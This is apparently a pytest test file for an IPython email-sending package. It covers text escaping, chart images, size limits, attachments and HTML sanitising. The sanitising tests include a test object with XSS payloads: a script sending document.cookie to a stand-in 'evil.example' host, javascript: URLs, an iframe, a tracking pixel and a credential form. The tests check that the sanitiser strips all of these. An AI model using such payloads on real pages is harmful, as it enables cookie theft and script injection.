"""What users type arrives as they meant it (issue 12) and safe (issue 11): each case is sent
through the magics, the form or the API to a real SMTP server, and the message that arrived is
parsed, both parts."""

from __future__ import annotations

import base64
import io
import re
import subprocess
import sys
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from conftest import NOTEBOOK_SENDER, run_cell, shown_text
from IPython.core.error import UsageError
from IPython.utils.capture import capture_output

import smtp_magic
from smtp_magic.htmltext import html_to_text
from smtp_magic.server import CaptureServer

if TYPE_CHECKING:
    from conftest import TestingShell

pd = pytest.importorskip("pandas")
np = pytest.importorskip("numpy")
matplotlib = pytest.importorskip("matplotlib")
matplotlib.use("Agg")

SENDER = NOTEBOOK_SENDER
GMAIL_CLIP = 102_000  # bytes of the HTML part as transferred
PNG_1PX = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQ"
    "AAAABJRU5ErkJggg=="
)


def arrived(server: CaptureServer, n: int = 1) -> list[EmailMessage]:
    return [m.message for m in server.wait_for(n)]


def parts(msg: EmailMessage) -> tuple[str, str, int]:
    """(HTML, text, size of the HTML part as transferred)."""
    html_part = msg.get_body(("html",))
    text_part = msg.get_body(("plain",))
    assert html_part is not None and text_part is not None
    return (html_part.get_content().replace("\r\n", "\n"),
            text_part.get_content().replace("\r\n", "\n"), len(html_part.get_payload().encode()))


def attachments(msg: EmailMessage) -> dict[str, EmailMessage]:
    found: dict[str, EmailMessage] = {}
    for part in msg.iter_attachments():
        name = part.get_filename()
        assert name not in found, f"two attachments named {name}"
        found[name] = part
    return found


def images(msg: EmailMessage) -> list[EmailMessage]:
    return [p for p in msg.walk() if p.get_content_maintype() == "image" and p["Content-ID"]]


# -- text typed as text ------------------------------------------------------------------------------

TYPED = "Hi team,\n\nNumbers below: 3 < 5 & 7 > 2.\nSecond line.\n\nThanks,\nAnn"


def assert_typed_text_kept(msg: EmailMessage) -> None:
    html, text, _ = parts(msg)
    assert "Numbers below: 3 &lt; 5 &amp; 7 &gt; 2.<br>" in html
    assert re.search(r"<p[^>]*>Hi team,</p>", html) and "Thanks,<br>\nAnn</p>" in html
    assert "max-width:720px" in html  # in the email layout
    assert text.strip().replace("\r\n", "\n") == TYPED


def test_a_cell_typed_as_text_keeps_its_lines(ip: TestingShell, to_server: CaptureServer) -> None:
    ip.run_cell(f"%%smtp_send --to a@example.test --subject typed\n{TYPED}")
    (msg,) = arrived(to_server)
    assert_typed_text_kept(msg)


def test_the_api_keeps_the_lines_of_a_text_body(smtp_server: CaptureServer) -> None:
    r = smtp_magic.send("a@example.test", "typed", TYPED, sender=SENDER,
                        config={"host": "127.0.0.1", "port": smtp_server.port,
                                "security": "none"})
    assert r.ok, r.message
    assert_typed_text_kept(arrived(smtp_server)[0])


def test_the_form_templates_and_lays_out_its_body(smtp_server: CaptureServer) -> None:
    from smtp_magic.widgets import ComposeForm

    settings = smtp_magic.SmtpMagic(host="127.0.0.1", port=smtp_server.port, security="none",
                                    sender=SENDER)
    df = pd.DataFrame({"city": ["Oslo"], "sales": [3.5]})
    form = ComposeForm(to="a@example.test", subject="typed", settings=settings,
                       body=TYPED + "\n\n{{ df }}", namespace={"df": df})
    request = form.request()
    (response,) = smtp_magic.send_many([request], config=settings)
    assert response.ok, response.message
    (msg,) = arrived(smtp_server)
    html, text, _ = parts(msg)
    assert "Numbers below: 3 &lt; 5 &amp; 7 &gt; 2.<br>" in html and "max-width:720px" in html
    assert re.search(r"<td [^>]*text-align:left[^>]*>Oslo</td>", html)  # the frame, as a table
    assert text.replace("\r\n", "\n").startswith(TYPED)
    form.close()


# -- JavaScript charts -------------------------------------------------------------------------------

def test_an_altair_chart_arrives_as_an_image(ip: TestingShell, to_server: CaptureServer) -> None:
    alt = pytest.importorskip("altair")
    pytest.importorskip("vl_convert")
    ip.user_ns["chart"] = alt.Chart(pd.DataFrame({"x": [1, 2, 3], "y": [3, 1, 2]})).mark_line(
    ).encode(x="x", y="y").properties(title="Orders per day")
    shown = run_cell(ip, "%%smtp_send --to a@example.test --subject chart\n<p>Chart:</p>{{ chart }}")
    assert "sent in" in shown_text(shown)
    (msg,) = arrived(to_server)
    html, text, _ = parts(msg)
    (png,) = images(msg)
    data = png.get_payload(decode=True)
    assert data.startswith(b"\x89PNG") and int.from_bytes(data[16:20], "big") > 100
    assert f'src="cid:{png["Content-ID"].strip("<>")}"' in html
    assert 'alt="Orders per day"' in html and "<script" not in html
    assert png.get_filename() == "chart.png" and "Orders per day" in text


def test_a_plotly_figure_arrives_as_an_image(ip: TestingShell, to_server: CaptureServer) -> None:
    go = pytest.importorskip("plotly.graph_objects")
    pytest.importorskip("kaleido")
    ip.user_ns["fig"] = go.Figure(go.Bar(x=["a", "b"], y=[3, 1]), layout={"title": "Revenue"})
    shown = run_cell(ip, "%%smtp_send --to a@example.test --subject plotly\n{{ fig }}")
    assert "sent in" in shown_text(shown)
    (msg,) = arrived(to_server)
    html, _, _ = parts(msg)
    (png,) = images(msg)
    assert png.get_payload(decode=True).startswith(b"\x89PNG")
    assert 'alt="Revenue"' in html and "<script" not in html


def test_a_bokeh_plot_without_its_exporter_fails_before_sending(
        ip: TestingShell, to_server: CaptureServer, no_module: Callable[..., None]) -> None:
    plotting = pytest.importorskip("bokeh.plotting")
    no_module("selenium")
    plot = plotting.figure(title="Latency")
    plot.line([1, 2], [3, 4])
    ip.user_ns["plot"] = plot
    with pytest.raises(UsageError) as info:
        ip.run_cell("%%smtp_send --to a@example.test --subject bokeh\n{{ plot }}")
    assert str(info.value) == (
        "Cannot email variable 'plot' (a Bokeh plot drawn by JavaScript, which email cannot "
        "run): making it an image needs selenium and a chromedriver: pip install selenium "
        "(Debian: apt install chromium-driver).")
    assert to_server.count() == 0


def test_plotly_without_a_browser_fails_before_sending_with_the_install_hint(
        ip: TestingShell, to_server: CaptureServer, no_module: Callable[..., None]) -> None:
    go = pytest.importorskip("plotly.graph_objects")
    no_module("kaleido")
    ip.user_ns["fig"] = go.Figure(go.Bar(x=["a"], y=[1]))
    with pytest.raises(UsageError, match=r"^Cannot email variable 'fig' \(a Plotly chart drawn "
                       r"by JavaScript, which email cannot run\): making it an image needs "
                       r"kaleido and Chrome or Chromium: pip install kaleido"):
        ip.run_cell("%%smtp_send --to a@example.test --subject p\n{{ fig }}")
    assert to_server.count() == 0


def test_any_javascript_only_output_is_refused_never_sent_empty(
        ip: TestingShell, to_server: CaptureServer) -> None:
    class Widget:
        def _repr_html_(self) -> str:
            return "<div id='w'></div><script>draw('#w')</script>"

    ip.user_ns["widget"] = Widget()
    with pytest.raises(UsageError, match=r"^Cannot email variable 'widget': it is drawn by "
                       r"JavaScript, which email cannot run, and has no image form"):
        ip.run_cell("%%smtp_send --to a@example.test --subject w\n{{ widget }}")
    assert to_server.count() == 0


def test_captured_vega_lite_and_plotly_bundles_become_images() -> None:
    """What a kernel shows for Altair/Plotly (their JSON MIME types), as --capture gets it."""
    pytest.importorskip("vl_convert")
    from smtp_magic.render import Output, render_outputs

    spec = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "title": "Weekly",
            "data": {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 3}]}, "mark": "bar",
            "encoding": {"x": {"field": "a", "type": "ordinal"},
                         "y": {"field": "b", "type": "quantitative"}}}
    out = render_outputs([Output("display", data={
        "application/vnd.vegalite.v5+json": spec, "text/plain": "alt.Chart(...)",
        "text/html": "<div id='v'></div><script>vegaEmbed('#v')</script>"})])
    (image,) = out.images
    assert image.data.startswith(b"\x89PNG") and 'alt="Weekly"' in out.html
    assert image.filename == "weekly.png" and "<script" not in out.html


# -- --capture: what the notebook shows when the cell ends -----------------------------------------

def test_capture_sends_the_final_display_and_marks_stderr(ip: TestingShell,
                                                          to_server: CaptureServer) -> None:
    import matplotlib.pyplot as plt

    shown = run_cell(ip, "%%smtp_send --to a@example.test --subject live --capture\n"
                    "import sys, warnings\n"
                    "from IPython.display import display, clear_output, Markdown\n"
                    "h = display(Markdown('status: starting'), display_id=True)\n"
                    "for i in range(5):\n"
                    "    clear_output(wait=True)\n"
                    "    print(f'frame {i}')\n"
                    "h2 = display(Markdown('progress: 0%'), display_id=True)\n"
                    "h2.update(Markdown('progress: 100%'))\n"
                    "print('careful: disk almost full', file=sys.stderr)\n"
                    "h.update(Markdown('status: done'))\n"
                    "import matplotlib.pyplot as plt\n"
                    "fig, ax = plt.subplots(); ax.plot([1, 2]); ax.set_title('Revenue by region')\n"
                    "display(fig); plt.close(fig)\n")
    assert "sent in" in shown_text(shown)
    (msg,) = arrived(to_server)
    html, text, _ = parts(msg)
    for stale in ("frame 0", "frame 3", "status: starting", "progress: 0%"):
        assert stale not in html
    # the first display was cleared by clear_output(wait=True): its late update shows nothing
    assert "frame 4" in html and "progress: 100%" in html and "status: done" not in html
    assert re.search(r"\u26a0 stderr</p>\s*<pre [^>]*>careful: disk almost full", html)
    assert "\u26a0 stderr" in text and "careful: disk almost full" in text
    (png,) = images(msg)
    assert png.get_filename() == "revenue-by-region.png" and 'alt="Revenue by region"' in html
    plt.close("all")


# -- the size budget ------------------------------------------------------------------------------

def budget_case(ip: TestingShell, server: CaptureServer, source: str) -> tuple[str, str, int,
                                                                                dict[str, Any]]:
    shown = run_cell(ip, source)
    assert "sent in" in shown_text(shown)
    (msg,) = arrived(server)
    html, text, size = parts(msg)
    assert size <= GMAIL_CLIP, size
    return html, text, size, attachments(msg)


def top_note(html: str) -> str:
    """The text of the first paragraph of the body (where a note for the reader must be)."""
    body = re.search(r'<td align="left"[^>]*>(.*)', html, re.DOTALL)
    assert body is not None
    return " ".join(html_to_text(body.group(1)).split("\n\n")[0].split())


def test_a_three_megabyte_string(ip: TestingShell, to_server: CaptureServer) -> None:
    ip.user_ns["log"] = "".join(f"event {i}: all good\n" for i in range(150_000))  # ~3 MB
    html, _, size, atts = budget_case(
        ip, to_server, "%%smtp_send --to a@example.test --subject log\n<p>Log:</p>{{ log }}")
    assert top_note(html).startswith("Variable 'log' is shortened here")
    assert "log.txt" in top_note(html)
    assert atts["log.txt"].get_content() == ip.user_ns["log"]
    print(f"3 MB string: HTML part {size:,} bytes as transferred")


def test_a_frame_with_one_400_kb_cell(ip: TestingShell, to_server: CaptureServer) -> None:
    ip.user_ns["df"] = pd.DataFrame({"id": [1], "payload": ["x" * 400_000]})
    html, _, size, atts = budget_case(
        ip, to_server, "%%smtp_send --to a@example.test --subject cell\n{{ df }}")
    note = re.search(r"<p [^>]*>(1 long cell is shortened[^<]*)</p>\s*<div[^>]*><table", html)
    assert note and "attached as df.csv" in note.group(1)  # the note above the table
    back = pd.read_csv(io.BytesIO(atts["df.csv"].get_payload(decode=True)))
    assert back["payload"][0] == "x" * 400_000
    print(f"one 400 KB cell: HTML part {size:,} bytes as transferred")


def test_a_long_pre_in_the_template(ip: TestingShell, to_server: CaptureServer) -> None:
    lines = "".join(f"line {i} &lt;ok&gt;\n" for i in range(30_000))
    html, _text, size, atts = budget_case(
        ip, to_server, f"%%smtp_send --to a@example.test --subject pre\n<h2>Dump</h2><pre>{lines}"
                       "</pre><p>The end.</p>")
    assert top_note(html).startswith("This message is longer than email programs show")
    (full,) = [a for name, a in atts.items() if name == "pre.html"]
    assert "line 29999 &lt;ok&gt;" in full.get_content() and "The end." in full.get_content()
    assert re.search(r"line \d+ &lt;ok&gt;</pre>", html)  # cut after a whole line, pre closed
    assert "The end." not in html
    print(f"long <pre>: HTML part {size:,} bytes as transferred")


def test_a_template_loop_of_240_kb(ip: TestingShell, to_server: CaptureServer) -> None:
    ip.user_ns["rows"] = [{"n": i, "city": f"City number {i}"} for i in range(6_000)]
    html, _, size, atts = budget_case(
        ip, to_server, "%%smtp_send --to a@example.test --subject 'Weekly loop'\n"
                       "{% for r in rows %}<p>{{ r.n }}: {{ r.city }} has a long line of text"
                       "</p>{% endfor %}")
    assert "weekly-loop.html" in top_note(html)
    assert re.search(r"has a long line of text</p>\s*</td>", html)  # cut after a paragraph
    assert "5999: City number 5999" in atts["weekly-loop.html"].get_content()
    print(f"template loop: HTML part {size:,} bytes as transferred")


def test_a_huge_api_body_is_cut_too(smtp_server: CaptureServer) -> None:
    body = "<p>" + "word " * 60_000 + "</p><p>tail</p>"
    r = smtp_magic.send("a@example.test", "api", body, sender=SENDER,
                        config={"host": "127.0.0.1", "port": smtp_server.port,
                                "security": "none"})
    assert r.ok, r.message
    (msg,) = arrived(smtp_server)
    html, _, size = parts(msg)
    assert size <= GMAIL_CLIP and "api.html" in top_note(html)
    assert "tail" in attachments(msg)["api.html"].get_content()


# -- a repr that raises ------------------------------------------------------------------------------

class Broken:
    def _repr_html_(self) -> str:
        raise ValueError("no html today")

    def __repr__(self) -> str:
        return "Broken(42)"


def test_a_raising_repr_falls_back_without_an_error_output(ip: TestingShell,
                                                          to_server: CaptureServer) -> None:
    ip.user_ns["report"] = Broken()
    with capture_output() as shown:
        ip.run_cell("%%smtp_send --to a@example.test --subject fallback\n<p>R:</p>{{ report }}")
    status = shown_text(shown)
    assert "Traceback" not in status and "Traceback" not in shown.stderr
    assert "sent in" in status
    assert ("note: variable 'report' was sent as text: its _repr_html_ raised ValueError "
            "(no html today)") in status
    html, _, _ = parts(arrived(to_server)[0])
    assert re.search(r"<pre[^>]*>Broken\(42\)</pre>", html)


# -- names -------------------------------------------------------------------------------------------

def test_the_readme_example_attaches_sales_csv_once(ip: TestingShell,
                                                   to_server: CaptureServer) -> None:
    ip.user_ns["sales"] = pd.DataFrame(np.arange(3000 * 4).reshape(3000, 4), columns=list("abcd"))
    ip.run_cell("%%smtp_send --to team@example.org --subject 'Sales' --attach sales:sales.csv\n"
                "<p>Hello team, here are this week's numbers:</p>\n{{ sales }}")
    (msg,) = arrived(to_server)
    atts = attachments(msg)
    assert list(atts) == ["sales.csv"]
    html, _, _ = parts(msg)
    assert "the full table is attached as sales.csv" in html


def test_same_file_names_from_different_folders_and_a_variable_twice(
        ip: TestingShell, to_server: CaptureServer, tmp_path: Path) -> None:
    for folder, content in (("a", "x,1\n"), ("b", "y,2\n")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "report.csv").write_text(content)
    ip.user_ns.update(df=pd.DataFrame({"v": [1]}), d=str(tmp_path))
    ip.run_cell("%%smtp_send --to a@example.test --subject names "
                "--attach {d}/a/report.csv {d}/b/report.csv df df\nSee attached.")
    atts = attachments(arrived(to_server)[0])
    assert sorted(atts) == ["a-report.csv", "b-report.csv", "df.csv"]
    assert atts["b-report.csv"].get_payload(decode=True) == b"y,2\r\n"  # 7bit: CRLF lines
    assert atts["a-report.csv"]["Content-Transfer-Encoding"] == "7bit"


def test_captured_images_are_named_after_their_titles(ip: TestingShell,
                                                      to_server: CaptureServer) -> None:
    ip.run_cell("%%smtp_send --to a@example.test --subject figs --capture\n"
                "import matplotlib.pyplot as plt\n"
                "from IPython.display import display\n"
                "for title in ('Revenue', 'Costs', ''):\n"
                "    f, ax = plt.subplots(); ax.plot([1, 2]); ax.set_title(title)\n"
                "    display(f); plt.close(f)\n")
    msg = arrived(to_server)[0]
    names = [p.get_filename() for p in images(msg)]
    assert names == ["revenue.png", "costs.png", "f.png"]
    html, _, _ = parts(msg)
    assert 'alt="Revenue"' in html and 'alt="Costs"' in html and 'alt="f"' in html


# -- options ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, option", [
    (["ann@example.test", "bob@example.test"], "{', '.join(team)}"),
    (["ann@example.test", "bob@example.test"], "{team}"),
    (("ann@example.test", "bob@example.test"), "{team}"),
    ({"bob@example.test", "ann@example.test"}, "{team}"),
    (None, "{frame.email}"),
])
def test_collections_of_addresses_expand(ip: TestingShell, to_server: CaptureServer,
                                         value: Any, option: str) -> None:
    ip.user_ns["team"] = value
    ip.user_ns["frame"] = pd.DataFrame({"email": ["ann@example.test", "bob@example.test"]})
    ip.run_cell(f"%%smtp_send --to {option} --subject hi\nHello")
    (got,) = to_server.wait_for(1)
    assert sorted(got.rcpt_to) == ["ann@example.test", "bob@example.test"]


# -- sanitising (issue 11) ------------------------------------------------------------------------

class Hostile:
    def _repr_html_(self) -> str:
        png = base64.b64encode(PNG_1PX).decode()
        return (
            "<style>td { color: #123456 }</style>"
            "<div onclick=\"steal()\" onmouseover='x()'>Summary "
            "<a href=\"javascript:alert(1)\">click</a> <a href=\"JaVa&#x09;ScRiPt:alert(2)\">"
            "again</a> <a href=\"https://example.org/ok\">docs</a></div>"
            "<iframe src=\"https://evil.example/frame\"></iframe>"
            "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>"
            f"<img src=\"data:image/png;base64,{png}\" onerror=\"boom()\" alt=\"dot\">"
            "<table><tr><td>styled cell</td></tr></table>"
            "<script>document.location='https://evil.example/?'+document.cookie</script>"
            "<svg onload=\"alert(3)\"><circle r=1 /></svg>"
            "<form action=\"https://evil.example/post\"><input name=pw></form>"
        )


def test_hostile_object_html_arrives_inert(ip: TestingShell, to_server: CaptureServer) -> None:
    ip.user_ns["obj"] = Hostile()
    ip.user_ns["styled"] = pd.DataFrame({"v": [1, 5]}).style.highlight_max(color="yellow")
    ip.run_cell("%%smtp_send --to a@example.test --subject hostile\n"
                "<p onclick=\"mine()\">Mine <a href='javascript:void(0)'>x</a> "
                "<img src='https://example.org/logo.png' alt='logo'></p>{{ obj }}{{ styled }}")
    msg = arrived(to_server)[0]
    html, _text, _ = parts(msg)
    lowered = html.lower()
    for gone in ("<script", "onclick", "onmouseover", "onerror", "onload", "javascript:",
                 "<iframe", "tracker.example", "evil.example", "<form", "<input", "<svg",
                 "<style", "steal()"):
        assert gone not in lowered, gone
    assert 'href="https://example.org/ok"' in html and "Summary" in html
    (dot,) = [p for p in images(msg) if p.get_payload(decode=True) == PNG_1PX]
    assert f'cid:{dot["Content-ID"].strip("<>")}' in html  # cid: images stay
    assert re.search(r'<td style="[^"]*color: #123456[^"]*">styled cell</td>', html)  # scoped
    assert not re.search(r"<td [^>]*color: #123456[^>]*>\s*[15]\s*</td>", html)  # not leaked
    assert re.search(r'<td [^>]*background-color: yellow[^>]*>\s*5\s*</td>', html)  # Styler kept
    assert 'src="https://example.org/logo.png"' in html  # the user's own image is theirs


def test_preview_lists_what_was_removed(ip: TestingShell, to_server: CaptureServer) -> None:
    ip.user_ns["obj"] = Hostile()
    shown = run_cell(ip, "%%smtp_send --to a@example.test --subject p --preview\n"
                    "<p onclick='x()'>Hi</p>{{ obj }}")
    text = shown_text(shown)
    line = next(ln for ln in text.splitlines() if ln.startswith("Removed before sending:"))
    for item in ("an onclick event handler from the template", "a script from variable 'obj'",
                 "an embedded frame (<iframe>) from variable 'obj'",
                 "a remote image (https://tracker.example/pixel.gif) from variable 'obj'",
                 "2 x a javascript: URL from variable 'obj'"):
        assert item in line, item
    assert to_server.count() == 0


def test_api_html_never_carries_scripts(smtp_server: CaptureServer) -> None:
    body = ("<!DOCTYPE html><html><head><title>T</title><script>bad()</script></head>"
            "<body onload='x()'><p onclick=\"y()\">Hi <a href='javascript:z()'>link</a>"
            "<img src='https://example.org/logo.png'></p></body></html>")
    r = smtp_magic.send("a@example.test", "api", body, sender=SENDER,
                        config={"host": "127.0.0.1", "port": smtp_server.port,
                                "security": "none"})
    assert r.ok
    html, _, _ = parts(arrived(smtp_server)[0])
    for gone in ("<script", "onload", "onclick", "javascript:", "bad()"):
        assert gone not in html.lower()
    assert "<title>T</title>" in html and "logo.png" in html and ">link</a>" in html


# -- light imports -------------------------------------------------------------------------------

def test_rendering_plain_things_imports_no_chart_library_or_sanitiser() -> None:
    code = ("from smtp_magic.render import render_template, email_body\n"
            "email_body(render_template('Hi {{ x }}', {'x': 1}))\n"
            "import sys\n"
            "print(sorted({'nh3', 'altair', 'plotly', 'vl_convert', 'bokeh', 'pandas'}"
            " & set(sys.modules)))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
